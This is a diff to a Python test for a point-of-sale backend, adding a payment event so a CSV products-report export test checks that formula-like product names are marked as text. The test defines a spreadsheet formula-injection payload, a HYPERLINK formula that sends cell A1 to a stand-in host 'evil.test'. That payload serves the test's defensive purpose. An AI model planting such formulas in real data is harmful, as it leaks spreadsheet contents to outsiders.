@@ -13,6 +13,7 @@ from cloud.extensions import db
 from cloud.models import Outlet
 from cloud.services import enrollment
 from cloud.services.spreadsheets import safe_text
+from sync.ids import new_uuid
 from tests.cloud.test_role_matrix import enroll_device, event, order_payload, push
 
 FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
@@ -74,7 +75,11 @@ def test_the_products_report_marks_formula_like_names_as_text(app, client, world
         db.session.commit()
     _, _, access = enroll_device(client, key, "till")
     sold = order_payload(world.a.outlet_id, "AA1-261120-1-0001", world.a.product_id, product=(FORMULA, "FX-SOLD"))
-    assert push(client, access, [event(1, "order.snapshot", sold)])[0]["status"] == "applied"
+    paid = {"uuid": new_uuid(), "order_uuid": sold["uuid"], "terminal": 1, "method": "cash", "amount": "95000.00",
+            "tendered": "95000.00", "change_amount": "0.00", "status": "paid", "reference": "",
+            "created_at": "2026-11-20T10:05:00Z"}  # the report counts what was paid in the range
+    answers = push(client, access, [event(1, "order.snapshot", sold), event(2, "payment.recorded", paid)])
+    assert [a["status"] for a in answers] == ["applied", "applied"], answers
     query = "date_from=2026-11-01&date_to=2026-11-30"
     csv_rows = _csv_rows(client.get(f"/api/analytics/products/export/?format=csv&{query}",
                                     headers=world.headers("manager")))
